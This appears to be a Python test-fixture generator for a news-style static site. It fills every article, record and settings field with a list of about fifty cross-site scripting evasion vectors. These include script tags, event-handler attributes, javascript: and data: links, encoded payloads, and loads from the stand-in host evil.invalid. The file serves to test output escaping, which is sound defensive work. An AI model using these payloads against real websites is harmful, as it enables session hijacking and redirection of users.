"""Writes a content folder in which every text that reaches a page tries to run a script: `hostile_content.py FOLDER`.

The vectors are of the kinds of OWASP's XSS filter evasion sheet; each calls hit(), which nothing defines, or asks the
host evil.invalid for something.
"""

import json
import pathlib
import sys

VECTORS = [
    "<script>hit()</script>",
    "<ScRiPt/x>hit()</sCrIpT >",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<script src=https://evil.invalid/x.js></script>",
    "\"><script>hit()</script>",
    "'><img src=x onerror=hit()>",
    "\"><svg/onload=hit()>",
    "</title><script>hit()</script>",
    "</script><script>hit()</script>",
    "</style><script>hit()</script>",
    "</textarea><svg onload=hit()>",
    "--><script>hit()</script>",
    "]]><script>hit()</script>",
    "<!--><img src=x onerror=hit()>-->",
    "<img src=https://evil.invalid/x.png>",
    "<img src=`x` onerror=hit()>",
    "<img/src/onerror=hit()>",
    "\" onmouseover=hit() x=\"",
    "' autofocus onfocus=hit() tabindex=1 x='",
    "\" style=background:url(https://evil.invalid/x) x=\"",
    "<input autofocus onfocus=hit()>",
    "<details open ontoggle=hit()>x</details>",
    "<video><source onerror=hit()></video>",
    "<body onload=hit()>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=javascript:hit()></iframe>",
    "<object data=https://evil.invalid/x></object>",
    "<embed src=https://evil.invalid/x>",
    "<base href=https://evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "<style>@import 'https://evil.invalid/x.css';</style>",
    "<form action=https://evil.invalid/><button>x</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
    "<svg><a xlink:href=javascript:hit()><text>x</text></a></svg>",
    "<a href=javascript:hit()>x</a>",
    "<a href=javas&#99;ript:hit()>x</a>",
    "[x](javascript:hit())",
    "[x](JaVaScRiPt&#58;hit())",
    "[x](&#1;javascript:hit())",
    "[x](java&Tab;script:hit())",
    "[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)",
    "![x](https://evil.invalid/x.png)",
    "![x\" onerror=\"hit()](x.png \"t\\\" onerror=\\\"hit()\")",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#x3C;script&#x3E;hit()&#x3C;/script&#x3E;",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "%3Cscript%3Ehit()%3C/script%3E",
    "{{{page.title}}}{{#t}}{{/t}}${hit()}`hit()`",
    "\u2028hit()\u2029//",
    "\\\"};hit();//",
    "'-hit()-'",
]


def article(number, vector):
    """An article whose every field is the vector."""
    text = json.dumps(f"{vector} {number}", ensure_ascii=False)
    label = "".join(c for c in vector if c not in "[]\n ")
    return f"""---
title: {text}
summary: {text}
date: 2024-01-{number % 28 + 1:02}
authors: [{text}]
tags: [{text}]
events: [event-{number}]
aliases: [old/{number}/]
image: {json.dumps("https://x.org/" + vector, ensure_ascii=False)}
status: {{russia: {text}}}
sources:
  - {{id: s, publisher: {text}, title: {text}, url: {json.dumps("https://x.org/" + vector.replace(" ", "").replace(chr(34), ""))}}}
---
# {vector}

Russia and China met [the leader](leader:leader-{number}) at [the event](event:event-{number}). {vector} President Vladimir Putin may
attack Ukraine. A claim.[^s] Another.[^{label}]

## Geopolitical implications of {vector}

Russia is likely to gain {vector}. ~~{vector}~~ **{vector}** `{vector}`

- {vector}
> {vector}

| {vector.replace("|", "")} | b |
|---|---|
| {vector.replace("|", "")} | Russia |

```{vector.replace("`", "")}
{vector}
```

[{vector}](https://x.org/ "{vector}") ![{vector}](picture.png "{vector}") <{vector}>

{vector}

[^{label}]: A note with {vector}
"""


def record(kind, number, vector):
    """A record whose every field is the vector."""
    text = json.dumps(f"{vector} {number}", ensure_ascii=False)
    fields = {
        "leaders": f"country: RU\noffices: [{{title: {text}, from: 2020}}]",
        "events": f"date: 2024-01-02\nplace: {text}\nparticipants: [RU]",
        "organizations": "members: [RU, CN]",
    }[kind]
    return f"---\nname: {text}\naliases: [{text}]\nsummary: {text}\n{fields}\nstatus: {text}\n---\n{vector}\n\n# {vector}\n"


def write(folder):
    root = pathlib.Path(folder)
    for kind in ["articles", "leaders", "events", "organizations", "static"]:
        (root / kind).mkdir(parents=True, exist_ok=True)
    for number, vector in enumerate(VECTORS):
        name = vector.replace("/", "∕").replace("\n", "")[:60]
        (root / "articles" / f"{number} {name}.md").write_text(article(number, vector), encoding="utf-8")
        (root / "static" / f"{number} {name}.txt").write_text(vector, encoding="utf-8")
        for kind, slug in [("leaders", "leader"), ("events", "event"), ("organizations", "organization")]:
            (root / kind / f"{slug}-{number}.md").write_text(record(kind, number, vector), encoding="utf-8")
    whole = " ".join(VECTORS[:12])
    text = json.dumps(whole, ensure_ascii=False)
    (root / "site.yaml").write_text(
        f"title: {text}\ndescription: {text}\nauthor: {text}\nnavigation:\n  - {{title: {text}, url: articles/}}\n"
        f"sections:\n  outlook: [{text}]\n",
        encoding="utf-8",
    )
    (root / "strings.yaml").write_text(f"search: {text}\nsources: {text}\ncontents: {text}\n", encoding="utf-8")


if __name__ == "__main__":
    write(sys.argv[1])
